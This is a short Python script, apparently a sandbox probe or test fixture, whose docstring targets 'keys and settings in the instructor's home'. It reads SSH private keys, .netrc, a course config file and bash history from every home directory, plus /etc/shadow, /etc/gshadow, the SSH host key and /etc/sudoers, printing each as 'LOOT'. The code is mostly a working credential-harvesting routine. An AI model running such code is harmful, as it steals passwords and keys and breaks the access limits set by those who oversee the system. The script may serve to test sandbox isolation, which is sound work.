# ruff: noqa
"""Keys and settings in the instructor's home."""

# %% after imports
import glob
import os


def look(path):
    try:
        with open(path, "rb") as file:
            text = file.read(10_000)
    except OSError:
        return
    if text:
        print("LOOT:", path, text[:300])


homes = {"@HOME@", "/root", os.path.expanduser("~root"), *glob.glob("/home/*")}
for home in homes:
    for name in (".ssh/id_rsa", ".netrc", ".config/course.json", ".bash_history"):
        look(f"{home}/{name}")
for path in (
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/ssh/ssh_host_rsa_key",
    "/etc/sudoers",
):
    look(path)
print("TRIED")
